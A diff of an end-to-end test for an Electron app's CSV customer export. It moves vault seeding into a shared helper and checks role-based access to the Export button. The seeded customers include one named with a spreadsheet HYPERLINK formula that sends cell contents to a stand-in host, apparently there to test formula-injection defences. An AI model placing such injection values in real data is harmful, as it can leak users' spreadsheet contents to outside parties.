@@ -1,33 +1,21 @@
 import fs from 'node:fs';
 import path from 'node:path';
 import { afterEach, expect, it } from 'vitest';
-import { createCore } from '../../electron/core';
-import { createKeytarKeychain } from '../../electron/core/keychain/keychain';
-import { createAppRouter } from '../../electron/ipc';
-import type { Router } from '../../electron/ipc/router';
 import { describeKeychain } from '../support/keyring';
 import { tempDir } from '../support/tmp';
-import { E2E_KEYCHAIN_SERVICE, launchApp, signIn, type TestApp } from './harness';
+import { launchApp, signIn, type TestApp } from './harness';
+import { ok, seedVault } from './seed';
 
 const OWNER = { username: 'boss', displayName: 'Boss', password: 'Lantern-Harbor-42' };
 const MANAGER = { username: 'mia', displayName: 'Mia 王', password: 'Silver-Maple-58' };
 
-async function ok(router: Router, senderId: string, channel: string, input: unknown): Promise<unknown> {
-  const result = await router.dispatch({ senderId }, channel, input);
-  if (!result.ok) throw new Error(`${channel}: ${result.error.code}`);
-  return result.value;
-}
-
-async function seedVault(profileDir: string): Promise<void> {
-  const core = createCore({ profileDir, appVersion: 'seed', osLocales: ['en'], keychain: createKeytarKeychain(E2E_KEYCHAIN_SERVICE) });
-  const router = createAppRouter(core);
-  const { recoveryKey } = (await ok(router, 'seed', 'setup.begin', { owner: OWNER })) as { recoveryKey: string };
-  await ok(router, 'seed', 'setup.complete', { recoveryKeyEnding: recoveryKey.slice(-9), confirmedStored: true });
-  await ok(router, 'seed', 'users.create', { ...MANAGER, role: 'manager' });
-  await ok(router, 'seed', 'customers.create', { name: '王伟', mobile: '13912345678', level: 'vip' });
-  await ok(router, 'seed', 'customers.create', { name: '=HYPERLINK("http://x.example/?"&A1)', level: 'vip' });
-  await ok(router, 'seed', 'customers.create', { name: 'Acme Tea', level: 'regular' });
-  core.close();
+async function seedExportVault(profileDir: string): Promise<void> {
+  await seedVault(profileDir, OWNER, async (router) => {
+    await ok(router, 'seed', 'users.create', { ...MANAGER, role: 'manager' });
+    await ok(router, 'seed', 'customers.create', { name: '王伟', mobile: '13912345678', level: 'vip' });
+    await ok(router, 'seed', 'customers.create', { name: '=HYPERLINK("http://x.example/?"&A1)', level: 'vip' });
+    await ok(router, 'seed', 'customers.create', { name: 'Acme Tea', level: 'regular' });
+  });
 }
 
 let app: TestApp | undefined;
@@ -40,7 +28,7 @@ describeKeychain('exporting customers, in Chromium', () => {
   it('the owner exports this view as CSV from the dialog; main writes it; the manager has no Export button', async () => {
     const profileDir = tempDir('coffer-e2e-export-');
     const folder = tempDir('coffer-e2e-export-out-');
-    await seedVault(profileDir);
+    await seedExportVault(profileDir);
     const saved: string[] = [];
     app = await launchApp({
       profileDir,
